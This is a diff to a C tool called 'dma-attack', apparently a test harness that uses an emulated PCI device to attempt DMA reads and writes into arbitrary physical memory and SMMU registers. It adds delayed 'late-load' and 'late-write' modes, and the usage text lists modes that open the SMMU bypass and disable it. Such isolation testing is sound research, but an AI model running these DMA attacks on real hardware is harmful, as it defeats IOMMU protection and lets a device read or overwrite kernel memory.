@@ -116,6 +116,19 @@ static int attack_write(__u64 phys)
 	return landed ? EXIT_REACHED : EXIT_BLOCKED;
 }
 
+/* In two steps, as the device may lose its way to our own memory in between. */
+static int late_load(void)
+{
+	edu_write(phys_addr(own_page()), pattern, sizeof(pattern) - 1);
+	return EXIT_BLOCKED;
+}
+
+static int late_write(__u64 phys)
+{
+	edu_store_later(phys, sizeof(pattern) - 1);
+	return EXIT_BLOCKED;
+}
+
 /*
  * The SMMU's registers as a DMA target: read two ID registers, then open the
  * bypass and turn the SMMU off.
@@ -213,6 +226,8 @@ static int print_usage(void)
 	fputs("usage: dma-attack self\n"
 	      "       dma-attack read PHYS LEN\n"
 	      "       dma-attack write PHYS\n"
+	      "       dma-attack late-load\n"
+	      "       dma-attack late-write PHYS\n"
 	      "       dma-attack mmio SMMU VICTIM\n"
 	      "       dma-attack regs dump SMMU\n"
 	      "       dma-attack regs gbpa|smmuen SMMU VICTIM\n", stderr);
@@ -244,6 +259,10 @@ int main(int argc, char **argv)
 		return attack_read(parse(argv[2]), parse(argv[3]));
 	if (!strcmp(mode, "write") && argc == 3)
 		return attack_write(parse(argv[2]));
+	if (!strcmp(mode, "late-load") && argc == 2)
+		return late_load();
+	if (!strcmp(mode, "late-write") && argc == 3)
+		return late_write(parse(argv[2]));
 	if (!strcmp(mode, "mmio") && argc == 4)
 		return attack_mmio(parse(argv[2]), parse(argv[3]));
 	return print_usage();
